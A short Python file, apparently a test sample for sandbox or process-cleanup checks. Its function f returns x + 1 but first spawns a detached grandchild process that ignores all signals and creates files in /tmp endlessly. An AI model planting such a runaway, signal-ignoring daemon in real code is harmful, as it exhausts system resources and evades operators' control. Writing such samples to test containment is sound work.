# A grandchild of a new session that ignores signals, holds the output open and writes on and on.
import os
import signal
import time


def f(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                try:
                    open(f"/tmp/daemon-{time.time_ns()}", "w").close()
                except OSError:
                    pass
        os._exit(0)
    return x + 1
